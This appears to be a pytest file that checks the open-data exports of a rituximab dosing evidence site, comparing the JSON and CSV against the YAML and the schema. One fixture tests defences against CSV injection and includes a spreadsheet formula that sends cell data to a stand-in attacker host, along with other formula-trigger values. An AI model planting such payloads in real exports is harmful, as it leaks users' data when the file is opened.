"""Open data (issue 5): studies.json validates against the published schema and equals the
YAML; regimens.csv parses and matches the YAML field for field; both carry the build date."""
from __future__ import annotations

import csv
import json
import shutil
from pathlib import Path

import pytest
import yaml
from jsonschema import Draft202012Validator

from evidence.pages import opendata
from evidence.content.load import load_file
from evidence.build.pipeline import build

ROOT = Path(__file__).resolve().parents[2]
NR = "not-reported"
EPOCH = "1764115200"      # 2025-11-26 00:00 UTC
STUDY_FILES = sorted((ROOT / "content/studies").glob("*.yaml"))


@pytest.fixture(scope="module")
def out(tmp_path_factory) -> Path:
    mp = pytest.MonkeyPatch()
    mp.setenv("SOURCE_DATE_EPOCH", EPOCH)
    try:
        target = tmp_path_factory.mktemp("opendata") / "output"
        build(ROOT / "content", target)
    finally:
        mp.undo()
    return target


def yaml_studies() -> dict[str, dict]:
    """The studies as the project's own strict loader reads them (dates stay text)."""
    return {p.stem: load_file(p, "study").data for p in STUDY_FILES}


def test_studies_json_validates_against_the_schema(out):
    doc = json.loads((out / "studies.json").read_text(encoding="utf-8"))
    assert doc["build_date"] == "2025-11-26"
    assert doc["content_model"] == "1.2"
    schema = json.loads((ROOT / "schema/study.schema.json").read_text(encoding="utf-8"))
    validator = Draft202012Validator(schema, format_checker=Draft202012Validator.FORMAT_CHECKER)
    assert len(doc["studies"]) == len(STUDY_FILES) == 6
    for study in doc["studies"]:
        errors = [e.message for e in validator.iter_errors(study)]
        assert errors == [], study["id"]
    # and the schema does reject a broken study, so the check above can fail
    broken = dict(doc["studies"][0], population="seven")
    assert list(validator.iter_errors(broken))


def test_studies_json_is_the_yaml(out):
    doc = json.loads((out / "studies.json").read_text(encoding="utf-8"))
    assert {s["id"]: s for s in doc["studies"]} == yaml_studies()
    # what the site calculated sits beside the studies, one entry per regimen with a course total
    assert list(doc) == ["build_date", "content_model", "schema", "studies", "calculated"]
    assert {(c["study_id"], c["regimen"]) for c in doc["calculated"]} == {
        (sid, i) for sid, s in yaml_studies().items() for i, r in enumerate(s["regimens"])
        if isinstance(r["dose"], dict) and "value" in r["dose"] and isinstance(r["count"], int)
        and not r["dose"]["unit"].endswith("/day")}
    assert [s["id"] for s in doc["studies"]] == sorted(p.stem for p in STUDY_FILES)


def test_published_schemas_are_the_repository_ones(out):
    for p in (ROOT / "schema").glob("*.schema.json"):
        assert (out / "schema" / p.name).read_bytes() == p.read_bytes()
    doc = json.loads((out / "studies.json").read_text(encoding="utf-8"))
    assert (out / doc["schema"]).is_file()


def _read_csv(out: Path) -> list[dict[str, str]]:
    with open(out / "regimens.csv", encoding="utf-8", newline="") as f:
        return list(csv.DictReader(f))


def test_regimens_csv_parses(out):
    with open(out / "regimens.csv", encoding="utf-8", newline="") as f:
        raw = list(csv.reader(f))
    assert raw[0] == opendata.CSV_COLUMNS
    assert all(len(r) == len(raw[0]) for r in raw)
    assert len(raw) - 1 == sum(len(s["regimens"]) for s in yaml_studies().values()) >= 12


MAPPED = {"dose": ("value", "min", "max", "unit", "description"), "count": ("value", "min", "max"),
          "over": ("value", "unit"), "max_dose": ("value", "unit")}
PLAIN = ("drug", "role", "route", "rate", "premedication", "when", "quote")
SPREAD = {"n": ("n_treated", "n_treated_at_least")}     # 1.2: regimens[].n, as `{value}` / `{at_least}`


def test_regimens_csv_matches_the_yaml_field_for_field(out):
    rows = {(r["study_id"], int(r["regimen"])): r for r in _read_csv(out)}
    studies = yaml_studies()
    assert set(rows) == {(sid, i) for sid, s in studies.items() for i in range(len(s["regimens"]))}
    for sid, s in studies.items():
        for i, reg in enumerate(s["regimens"]):
            row = rows[(sid, i)]
            assert set(reg) <= set(MAPPED) | set(PLAIN) | set(SPREAD) | {"derived", "not_used"}, \
                f"a regimen field this test does not check: {reg}"
            n = reg.get("n")
            want = (("", "") if n is None else (NR, NR) if n == NR
                    else ("", str(n["at_least"])) if isinstance(n, dict) else (str(n), ""))
            assert (row["n_treated"], row["n_treated_at_least"]) == want, (sid, i, "n")
            assert row["calculated"] == ("course_total" if row["course_total_value"] else ""), (sid, i)
            for key in PLAIN:
                assert row[key] == (str(reg[key]) if key in reg else ""), (sid, i, key)
            for key, subs in MAPPED.items():
                value = reg.get(key)
                for sub in subs:
                    col = row[f"{key}_{sub}"]
                    if value is None:
                        want = ""
                    elif value == NR:
                        want = NR
                    elif isinstance(value, dict):
                        want = str(value[sub]) if sub in value else ""
                    else:
                        want = str(value) if sub == "value" else ""
                    assert col == want, (sid, i, f"{key}_{sub}")
            # the study's fields repeated on each row
            pop, cit = s["population"], s["citation"]
            assert row["population_n"] == str(pop["n"])
            for k in ("min", "max", "median", "mean", "q1", "q3", "value"):
                age = pop["age_years"]
                assert row[f"age_{k}"] == (NR if age == NR else str(age.get(k, ""))), (sid, k)
            assert row["age_at"] == pop.get("age_at", "treatment")
            assert (row["design_type"], row["certainty"]) == (s["design"]["type"], s["certainty"]["rating"])
            assert (row["pmid"], row["doi"], row["year"]) == (str(cit["pmid"]), str(cit["doi"]), str(cit["year"]))
            assert row["study_url"] == f"studies/{sid}/"
            assert row["build_date"] == "2025-11-26"


def test_regimens_csv_course_total(out):
    seed = next(r for r in _read_csv(out)
                if r["study_id"] == "rituximab-childhood-sle-2005" and r["drug"] == "rituximab")
    assert (seed["course_total_value"], seed["course_total_unit"]) == ("1500", "mg/m2")
    assert seed["dose_basis"] == "per dose, by body-surface area"
    willems = next(r for r in _read_csv(out) if r["study_id"] == "willems-2006" and r["drug"] == "rituximab")
    assert willems["course_total_value"] == ""      # a dose range: no single total follows
    assert (seed["calculated"], willems["calculated"]) == ("course_total", "")


def test_dosing_page_links_the_downloads_with_the_build_date(out):
    html = (out / "dosing/index.html").read_text(encoding="utf-8")
    assert '<a href="../regimens.csv" type="text/csv">regimens.csv</a>' in html
    assert '<a href="../studies.json" type="application/json">studies.json</a>' in html
    assert 'href="../schema/study.schema.json"' in html
    assert "Built 2025-11-26." in html.split('id="data-h"')[1]


def test_csv_keeps_hostile_text_as_data():
    """A quote with a comma, quotes and a line break stays one field."""
    from evidence.content.model import Drug, Regimen, Study
    data = yaml.safe_load((ROOT / "content/studies/rituximab-childhood-sle-2005.yaml").read_text(encoding="utf-8"))
    data["regimens"][0]["quote"] = 'a, "quoted"\nline'
    drug = Drug("rituximab", "Rituximab", "x", {})
    study = Study(data["id"], data, (), (drug,), tuple(Regimen(drug, r) for r in data["regimens"]), ())

    class FakeSite:
        studies = by_id = (study,)
        build_date = "2026-01-01"
    text = opendata.regimens_csv(FakeSite())
    rows = list(csv.DictReader(text.splitlines(keepends=True)))
    assert rows[0]["quote"] == 'a, "quoted"\nline'


# Cells a spreadsheet would run as formulas (issue 19, OWASP "CSV injection"): (study, line of
# its YAML, the same line with a hostile value, the value, what regimens.csv must hold)
HOSTILE = [
    ("rituximab-childhood-sle-2005", "when: only for children who had not had it before",
     "when: '=HYPERLINK(\"https://attacker.example/?d=\"&A1,\"Dosing notes\")'",
     ("rituximab-childhood-sle-2005", 1, "when"), '=HYPERLINK("https://attacker.example/?d="&A1,"Dosing notes")'),
    ("rituximab-childhood-sle-2005", "rate: not-reported", 'rate: "+1"',
     ("rituximab-childhood-sle-2005", 0, "rate"), "+1"),
    ("rituximab-childhood-sle-2005", "premedication: not-reported", 'premedication: "@SUM(1)"',
     ("rituximab-childhood-sle-2005", 0, "premedication"), "@SUM(1)"),
    ("willems-2006", "rate: not-reported", 'rate: "-then slower"',
     ("willems-2006", 0, "rate"), "-then slower"),
    ("lin-2024", "when: as maintenance therapy", 'when: "\\tas maintenance therapy"',
     ("lin-2024", 0, "when"), "\tas maintenance therapy"),
]
# a plain number, even a negative one, is left as it is
NUMBER = ("willems-2006", "premedication: not-reported", 'premedication: "-1.5"',
          ("willems-2006", 0, "premedication"), "-1.5")


def test_formula_like_cells_are_neutralised_and_every_other_cell_is_unchanged(tmp_path, out):
    content = tmp_path / "content"
    shutil.copytree(ROOT / "content", content)
    for sid, old, new, _, _ in HOSTILE + [NUMBER]:
        path = content / "studies" / f"{sid}.yaml"
        text = path.read_text(encoding="utf-8")
        assert old in text, (sid, old)
        path.write_text(text.replace(old, new, 1), encoding="utf-8")
    mp = pytest.MonkeyPatch()
    mp.setenv("SOURCE_DATE_EPOCH", EPOCH)
    try:
        build(content, tmp_path / "output")
    finally:
        mp.undo()

    def cells(folder: Path) -> dict[tuple, str]:
        with open(folder / "regimens.csv", encoding="utf-8", newline="") as f:
            return {(r["study_id"], int(r["regimen"]), k): v for r in csv.DictReader(f) for k, v in r.items()}
    before, after = cells(out), cells(tmp_path / "output")
    assert set(after) == set(before)
    changed = {cell: value for *_, cell, value in HOSTILE}
    for cell, value in changed.items():
        assert before[cell] != value
        assert after[cell] == "'" + value, cell          # a leading ' : text, never a formula
    assert after[NUMBER[3]] == "-1.5" != before[NUMBER[3]]
    # csv reads every other cell back exactly as it was
    assert {k: v for k, v in after.items() if k not in changed and k != NUMBER[3]} == \
        {k: v for k, v in before.items() if k not in changed and k != NUMBER[3]}
    # no cell of the file begins a formula
    assert not [k for k, v in after.items() if v and v[0] in "=+-@\t\r" and v != "-1.5"]
    # studies.json is data for programs, not a spreadsheet: it keeps the YAML's text
    doc = json.loads((tmp_path / "output" / "studies.json").read_text(encoding="utf-8"))
    regimens = {s["id"]: s["regimens"] for s in doc["studies"]}
    for (sid, i, key), value in changed.items():
        assert regimens[sid][i][key] == value


def test_csv_cell_follows_owasp():
    cell = opendata.csv_cell
    for text in ["=1+1", "+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1", "-", "-x", "+-1", "-1.5.2", "--1"]:
        assert cell(text) == "'" + text, repr(text)
    for text in ["", "1", "1500", "-1.5", "-2", "0.25", "-2e-05", "not-reported", "mg/m2", "a=b",
                 "'=already quoted", " =1", "intravenous"]:
        assert cell(text) == text, repr(text)
